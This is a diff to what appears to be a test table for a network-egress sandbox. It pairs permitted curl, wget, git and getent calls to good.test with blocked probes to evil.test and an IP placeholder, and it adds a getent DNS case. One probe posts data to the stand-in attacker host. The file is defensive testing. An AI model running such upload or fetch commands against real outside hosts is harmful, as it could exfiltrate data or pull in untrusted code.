@@ -27,6 +27,7 @@ TOOLS = {
     "curl": ("curl", "curl -sS https://good.test/pub/hello.txt", registry.HELLO, "curl -sS https://evil.test/", r"Could not resolve host: evil\.test"),
     "curl-plain": ("curl", "curl -sS http://good.test/pub/hello.txt", registry.HELLO, f"curl -sS http://{EVIL4}/", r"pale: http://192\.175\.48\.66:80 was refused: .*no rule allows"),
     "curl-upload": ("curl", "curl -sS -d 'a body' http://good.test/echo", "a body", f"curl -sS -d x http://{EVIL4}/", "was refused"),
+    "getent": ("getent", "getent ahostsv4 good.test", "STREAM good.test", "getent ahostsv4 evil.test; echo ended $?", "ended 2"),
     "wget": ("wget", "wget -nv -O- https://good.test/pub/hello.txt", registry.HELLO, "wget -nv -O- https://evil.test/", "unable to resolve host address"),
     "wget-plain": ("wget", "wget -nv -O- http://good.test/pub/hello.txt", registry.HELLO, f"wget -nv -O- http://{EVIL4}/", "ERROR 403"),
     "git-https": ("git", "git clone -q https://good.test/git/demo.git ~/c && cat ~/c/README", registry.HELLO, "git ls-remote https://evil.test/git/demo.git", r"Could not resolve host: evil\.test"),
